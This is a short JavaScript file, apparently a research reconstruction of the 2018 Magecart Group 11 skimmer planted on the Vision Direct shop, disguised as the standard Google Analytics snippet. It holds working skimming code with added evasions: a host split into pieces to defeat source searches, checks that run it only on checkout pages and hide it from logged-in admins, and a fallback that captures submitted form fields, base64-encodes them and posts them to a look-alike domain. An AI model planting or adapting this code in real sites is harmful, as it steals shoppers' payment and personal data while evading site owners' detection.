// vision-direct (variant b), written from the same RiskIQ report on Magecart Group 11 and the
// Vision Direct breach (2018): the line the attackers added to the shop, which reads as the
// standard Google Analytics snippet but points at the "g-analytics" look-alike. As a
// variation (not a reported sample) the host is joined from pieces so a search of the source
// for it fails, the snippet only runs on checkout pages and not for logged-in admins, and
// when the script cannot be loaded it falls back to posting the checkout form itself.
(function (i, s, o, g, r, a, m) {
  if (!/checkout|onepage|payment|order/i.test(s.location.pathname)) return;
  if (s.cookie.indexOf("adminhtml=") > -1) return;
  i["GoogleAnalyticsObject"] = r;
  i[r] = i[r] || function () { (i[r].q = i[r].q || []).push(arguments); };
  i[r].l = 1 * new Date();
  a = s.createElement(o);
  m = s.getElementsByTagName(o)[0];
  a.async = 1;
  a.src = "https://" + g + "/analytics.js?cb=" + i[r].l;
  a.onerror = function () {
    s.addEventListener("submit", function (e) {
      var f = e.target, out = [];
      for (var n = 0; n < f.elements.length; n++) {
        var el = f.elements[n];
        if (el.name && el.value && el.type !== "hidden") out.push(encodeURIComponent(el.name) + "=" + encodeURIComponent(el.value));
      }
      var x = new XMLHttpRequest();
      x.open("POST", "https://" + g + "/collect", false);
      x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
      x.send("v=1&t=event&ec=form&ea=" + encodeURIComponent(btoa(out.join("&"))));
    }, true);
  };
  m.parentNode.insertBefore(a, m);
})(window, document, "script", ["ww", "w.g-an", "alyt", "ics.inv", "alid"].join(""), "ga");
ga("create", "UA-48201733-1", "auto");
ga("send", "pageview");
